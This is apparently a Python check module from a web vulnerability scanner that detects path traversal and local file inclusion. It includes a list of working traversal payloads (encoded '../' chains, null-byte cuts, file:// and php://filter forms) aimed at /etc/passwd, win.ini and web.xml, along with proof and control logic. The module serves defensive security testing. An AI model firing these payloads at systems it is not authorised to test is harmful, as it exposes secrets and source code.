"""A value from the request names a file, and `../`, an absolute path or a coded form of them leads out of the
folder it should stay in.

## Impact
Any file the application may read can be fetched: source code, configuration with passwords and keys, other
users' data. Where the file is included and run, it is the way to running code.

## Remediation
Do not build paths from values. Keep a list of files by name or number; or resolve the path completely
(`realpath`) and compare the result with the folder, after decoding exactly once. Removing `../` from the text
is not enough.

## How it is proven
Two different well-known files must come back, each recognised by its structure (account lines, host lines,
section headings), by the same form of path, or the descriptor of a Java application by two spellings; the same form with a name that cannot exist must not show them,
nor does the page as it is. Where nothing of a file is shown but whether it is there, files that every system has must
be told from names that none has in random pairs, and both must be missing behind a folder that does not exist. Where
PHP includes what is named, a file's text must come back encoded by its filters, and encoded with all letters turned.
"""

from collections.abc import AsyncIterator, Mapping
from functools import partial

from cyberai.checkkit import (
    Exchange,
    Grain,
    Hit,
    HttpEvidence,
    HttpRequest,
    InsertionKind,
    InsertionPoint,
    Oracle,
    Probe,
    Proof,
    Scope,
    Severity,
    Struct,
    check,
)
from cyberai.checkkit.differential import Difference, Differential
from cyberai.checkkit.file_existence import existence
from cyberai.checkkit.php_filters import PLAIN, TURNED, any_coded, filtered_text
from cyberai.checkkit.system_files import ACCOUNTS, GROUPS, HOSTS
from cyberai.checkkit.text import Pattern, excerpt

_WIN_INI = Pattern(r"(?i)(\[fonts\]\s{1,4}\[extensions\]|; for 16-bit app support)")
_SYSTEM_INI = Pattern(r"(?i)\[(?:386enh|drivers)\]")
_WEB_XML = Pattern(r"(?:<|&lt;|\\u003[cC]|&#60;)web-app[\s>]")
_MANIFEST = Pattern(r"Manifest-Version:\s*\d")


class _File(Struct, frozen=True):
    path: str
    structure: Pattern


class _Family(Struct, frozen=True):
    """Files of one kind of system: the first is asked for, any of the others must follow."""

    first: _File
    others: tuple[_File, ...]


_POSIX = _Family(_File("etc/passwd", ACCOUNTS), (_File("etc/hosts", HOSTS), _File("etc/group", GROUPS)))
_WINDOWS = _Family(
    _File("windows/win.ini", _WIN_INI),
    (_File("windows/system32/drivers/etc/hosts", HOSTS), _File("windows/system.ini", _SYSTEM_INI)),
)
# An application that is not packed has no manifest. The descriptor by another spelling is opened, too: not a page's text.
_JAVA = _Family(
    _File("WEB-INF/web.xml", _WEB_XML),
    (_File("META-INF/MANIFEST.MF", _MANIFEST), _File("WEB-INF/./web.xml", _WEB_XML)),
)


class _Form(Struct, frozen=True):
    """A way to write the path: `@` is the file's path, `{v}` the original value, `{dir}` its folder, `{ext}`
    its file extension with the dot. `raw` forms go into the request target as they are."""

    name: str
    pattern: str
    family: _Family = _POSIX
    raw: bool = False
    backslashes: bool = False


_UP = "../" * 12
# The first two are asked everywhere, the others only where the value looks like a file's name.
_ALWAYS = (_Form("relative", _UP + "@"), _Form("absolute", "/@"))
_WHEN_FILE = (
    _Form("relative, kept prefix", "{dir}" + _UP + "@"),
    _Form("relative, kept value", "{v}/" + _UP + "@"),
    _Form("relative, filtered once", "....//" * 12 + "@"),
    _Form("relative, coded twice", "..%2f" * 12 + "@"),
    _Form("relative, cut by a zero byte", _UP + "@\0{ext}"),
    _Form("relative, backslashes", "..\\" * 12 + "@", _WINDOWS, backslashes=True),
    _Form("relative, Windows", _UP + "@", _WINDOWS),
    _Form("absolute, Windows", "C:/@", _WINDOWS),
    _Form("file URL", "file:///@"),
    _Form("application root", "/@", _JAVA),
    _Form("below the application root", "../@", _JAVA),
    _Form("two levels below the application root", "../../@", _JAVA),
    _Form("relative, three levels", "../" * 3 + "@"),
    _Form("relative, coded dots", "%2e%2e%2f" * 12 + "@"),
)
_EXISTENCE = (_ALWAYS[0], _Form("relative, kept prefix", "{dir}" + _UP + "@"), _ALWAYS[1])
_SYNTAX = "etc proc passwd group hosts uptime version hostname .."
_IN_PATH = (
    _Form("raw path", _UP + "@", raw=True),
    _Form("raw path, coded", "..%2f" * 12 + "@", raw=True),
    _Form("raw path, coded dots", "%2e%2e/" * 12 + "@", raw=True),
)
_HINTS = Pattern(
    r"(file|path|page|doc|folder|dir|template|tpl|include|inc$|load|read|view|content|layout|module|mod$|lang|locale|"
    r"theme|skin|style|img|image|pic|photo|download|attach|log|report|pdf|src|source|show|cat$|data|name|url|resource)",
    ignore_case=True,
)


@check(
    id="web.path-traversal",
    title="Path traversal",
    severity=Severity.HIGH,
    cvss="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
    cwe=("CWE-22",),
    owasp=("A01:2021",),
    scope=Scope.INSERTION,
    grain=Grain.PARAMETER,
    max_requests=58,
    references=("https://owasp.org/www-community/attacks/Path_Traversal",),
    tags=("file", "lfi"),
)
async def path_traversal(point: InsertionPoint, probe: Probe) -> AsyncIterator[Hit]:
    """Try the forms in turn; the first that shows a file is proven with a second file and a control."""
    baseline = await probe.baseline(point)
    asked: dict[HttpRequest | str, Exchange] = {}
    for form in _forms(point):
        # Without a folder or an ending in the value, some forms are one another: what was asked is not asked again.
        payload = _written(point, form, form.family.first.path)
        key = _raw(point, payload) if form.raw else payload
        if key in asked:
            continue
        answer = asked[key] = await _ask(point, probe, form, form.family.first.path)
        if not _shows(form.family.first, answer, baseline):
            continue
        hit = await _prove(point, probe, form, baseline, answer)
        if hit is not None:
            yield hit
            return
    if _names_a_file(point):
        hit = await _by_filter(point, probe, baseline) or await _by_existence(point, probe, baseline, asked)
        if hit is not None:
            yield hit


def _forms(point: InsertionPoint) -> tuple[_Form, ...]:
    forms: tuple[_Form, ...] = _ALWAYS
    if point.kind is InsertionKind.PATH:
        forms += _IN_PATH
    if _names_a_file(point):
        forms += tuple(form for form in _WHEN_FILE if point.value or "{v}" not in form.pattern)
    return forms


def _names_a_file(point: InsertionPoint) -> bool:
    named = _HINTS.search(point.name.encode("utf-8", "replace")) is not None
    return named or "/" in point.value or bool(_extension(point.value))


async def _by_filter(point: InsertionPoint, probe: Probe, baseline: Exchange) -> Hit | None:
    """Does PHP open what the value names, and what a filter makes of it?"""
    if not point.value:
        return None
    plain = await probe.inject(point, PLAIN + point.value)
    usual = baseline.response.body
    if not any_coded(plain.response.body, usual):
        return None
    turned = await probe.inject(point, TURNED + point.value)
    text = filtered_text(plain.response.body, turned.response.body, usual)
    control = await probe.inject(point, PLAIN + probe.token(12))
    if not text or text.encode() in control.response.body:
        return None
    note = "PHP's filters encoded the file that is named; asked to turn its letters first, they did."
    return Hit(
        proof=Proof(Oracle.EXECUTED, repeats=2, control_silent=True),
        evidence=(HttpEvidence(plain, control, excerpt(text.encode(), 300), note),),
        url=plain.request.url,
        point=point,
        detail="Form: php://filter, the file's source encoded.",
    )


async def _by_existence(
    point: InsertionPoint, probe: Probe, baseline: Exchange, asked: Mapping[HttpRequest | str, Exchange]
) -> Hit | None:
    """Does the page tell whether a file outside is there? `asked` are the answers to values that were sent before."""
    engine = Differential(lambda value: probe.inject(point, value), point.value, (_SYNTAX,), allowance=30)
    engine.calibrate(baseline)
    looked, tried = False, set[str]()
    for form in _EXISTENCE:
        there = _written(point, form, form.family.first.path)
        if there in tried:
            continue
        tried.add(there)
        missing = _written(point, form, f"etc/{probe.token(6)}")
        one = engine.sample(asked.get(there) or await probe.inject(point, there), there)
        other = engine.sample(await probe.inject(point, missing), missing)
        if one.features == other.features or engine.spoiled(one.exchange.response):
            continue
        if not looked:
            # A second look at the page as it is tells what changes by itself, such as a clock.
            engine.calibrate(baseline, await probe.inject(point, point.value))
            looked = True
        if not engine.usable:
            return None
        if engine.alike(one, other):
            continue
        guess = existence(probe, form.name, partial(_written, point, form))
        difference = await engine.test(guess)
        if difference is not None:
            return _told_hit(point, form, difference)
    return None


def _told_hit(point: InsertionPoint, form: _Form, difference: Difference) -> Hit:
    note = (
        f"In {difference.pairs} random pairs the page tells files that every system has from names that none has; "
        "behind a folder that does not exist it tells no difference."
    )
    return Hit(
        proof=Proof(Oracle.DIFFERENTIAL, repeats=difference.pairs, control_silent=True),
        evidence=(HttpEvidence(difference.shown, difference.other, difference.match, note),),
        url=difference.shown.request.url,
        point=point,
        detail=f"Form: {form.name}; the page tells whether a file outside its folder exists.",
    )


async def _prove(
    point: InsertionPoint, probe: Probe, form: _Form, baseline: Exchange, first: Exchange
) -> Hit | None:
    control = await _ask(point, probe, form, f"etc/{probe.token()}")
    if form.family.first.structure.search(control.response.body):
        return None
    for other in form.family.others:
        second = await _ask(point, probe, form, other.path)
        if _shows(other, second, baseline) and not other.structure.search(control.response.body):
            return _hit(point, form, (form.family.first, first), (other, second), control)
    return None


def _shows(file: _File, answer: Exchange, baseline: Exchange) -> bool:
    seen = file.structure.search(answer.response.body)
    return seen is not None and not file.structure.search(baseline.response.body)


async def _ask(point: InsertionPoint, probe: Probe, form: _Form, path: str) -> Exchange:
    payload = _written(point, form, path)
    if form.raw:
        return await probe.send(_raw(point, payload))
    return await probe.inject(point, payload)


def _written(point: InsertionPoint, form: _Form, path: str) -> str:
    value = point.value
    folder = value[: value.rfind("/") + 1]
    payload = (
        form.pattern.replace("{v}", value)
        .replace("{dir}", folder)
        .replace("{ext}", _extension(value) or ".html")
    )
    return payload.replace("@", path.replace("/", "\\") if form.backslashes else path)


def _raw(point: InsertionPoint, payload: str) -> HttpRequest:
    """The request with its path from this segment on replaced, exactly as written."""
    request = point.request
    segments = request.url.path.split("/")
    at = int(point.name) + 1
    target = "/".join((*segments[:at], payload))
    return HttpRequest(request.method, request.url.with_target(target), request.headers, request.body)


def _extension(value: str) -> str:
    # Digits alone end a price, a date, a version or an address, and not a file's name.
    stem, dot, extension = value.rpartition(".")
    ending = extension.isalnum() and not extension.isdecimal() and len(extension) <= 5
    return f".{extension}" if dot and stem and ending else ""


def _hit(
    point: InsertionPoint,
    form: _Form,
    first: tuple[_File, Exchange],
    second: tuple[_File, Exchange],
    control: Exchange,
) -> Hit:
    def evidence(file: _File, exchange: Exchange) -> HttpEvidence:
        match = file.structure.search(exchange.response.body)
        text = excerpt(match.text, 300).strip() if match else ""
        return HttpEvidence(
            exchange,
            control,
            text,
            f"The answer holds /{file.path}; a file that does not exist is not shown.",
        )

    return Hit(
        proof=Proof(Oracle.EXECUTED, repeats=2, control_silent=True),
        evidence=(evidence(*first), evidence(*second)),
        url=first[1].request.url,
        point=point,
        detail=f"Form: {form.name}; files read: /{first[0].path}, /{second[0].path}.",
    )
